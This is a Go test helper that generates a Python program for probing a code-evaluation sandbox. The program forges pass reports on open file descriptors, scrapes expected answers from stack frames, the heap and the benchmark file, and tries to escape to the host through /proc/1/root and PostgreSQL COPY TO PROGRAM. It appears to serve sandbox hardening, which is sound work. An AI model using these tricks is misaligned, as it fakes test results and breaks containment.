package sandboxtest

import "fmt"

// CheatProgram returns a program that solves nothing: it looks for the
// expected output of the test it runs in (the callers' frames, the heap,
// the benchmark records at bench on the host), forges pass reports on
// every descriptor from 3 to 255 (but its own output's), and tries to run
// a command on the host
// that creates marker (directly, and through the local PostgreSQL's
// COPY … TO PROGRAM). funcName is the method a functional problem calls,
// "" for a stdin problem. Against the earlier sandbox, which had the
// expected output in a caller's frame and its report pipe on fd 3, this
// passed every LiveCodeBench problem.
func CheatProgram(funcName, bench, marker string) string {
	return fmt.Sprintf(cheatTemplate, marker, bench, funcName)
}

const cheatTemplate = `import gc, json, os, socket, struct, sys
MARKER = %q
BENCH = %q
FUNC = %q
CANDIDATES = []

# Forged pass reports on every descriptor but those of its own output.
fake = json.dumps({"ev": "result", "i": 0, "status": "pass", "detail": ""}).encode() + b"\n"
def same_file(a, b):
    try:
        sa, sb = os.fstat(a), os.fstat(b)
        return (sa.st_dev, sa.st_ino) == (sb.st_dev, sb.st_ino)
    except OSError:
        return False
for fd in range(3, 256):
    if any(same_file(fd, std) for std in (0, 1, 2)):
        continue
    try:
        os.write(fd, fake)
    except OSError:
        pass

# A command on the host.
for path in (MARKER, "/proc/1/root" + MARKER):
    try:
        open(path, "w").write("escaped")
    except OSError:
        pass
for sock in ("/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        s.connect(sock)
        params = b"user\x00postgres\x00database\x00postgres\x00\x00"
        s.sendall(struct.pack("!ii", 8 + len(params), 196608) + params)
        s.recv(4096)
        q = ("COPY (SELECT 1) TO PROGRAM 'touch %%s'" %% MARKER).encode() + b"\x00"
        s.sendall(b"Q" + struct.pack("!i", 4 + len(q)) + q)
        s.recv(4096)
    except OSError:
        pass

def collect(v):
    if isinstance(v, dict) and isinstance(v.get("output"), str):
        CANDIDATES.append(v["output"])

def search_frames():
    f = sys._getframe()
    while f is not None:
        if "expected" in f.f_locals:
            CANDIDATES.append(json.dumps(f.f_locals["expected"]))
        for v in list(f.f_locals.values()):
            collect(v)
        f = f.f_back
    for o in gc.get_objects():
        collect(o)

def search_bench(matches):
    try:
        for line in open(BENCH):
            rec = json.loads(line)
            for t in json.loads(rec["public_test_cases"]):
                if matches(t["input"]):
                    CANDIDATES.append(t["output"])
    except (OSError, ValueError):
        pass

if FUNC:
    class Solution:
        pass

    def method(self, *args):
        search_frames()
        search_bench(lambda inp: [json.loads(l) for l in inp.split("\n") if l.strip()] == list(args))
        for c in CANDIDATES:
            try:
                return json.loads(c)
            except ValueError:
                return c
        return None

    setattr(Solution, FUNC, method)
else:
    search_frames()
    data = sys.stdin.read()
    search_bench(lambda inp: inp.strip() == data.strip())
    print(CANDIDATES[0] if CANDIDATES else "")
`
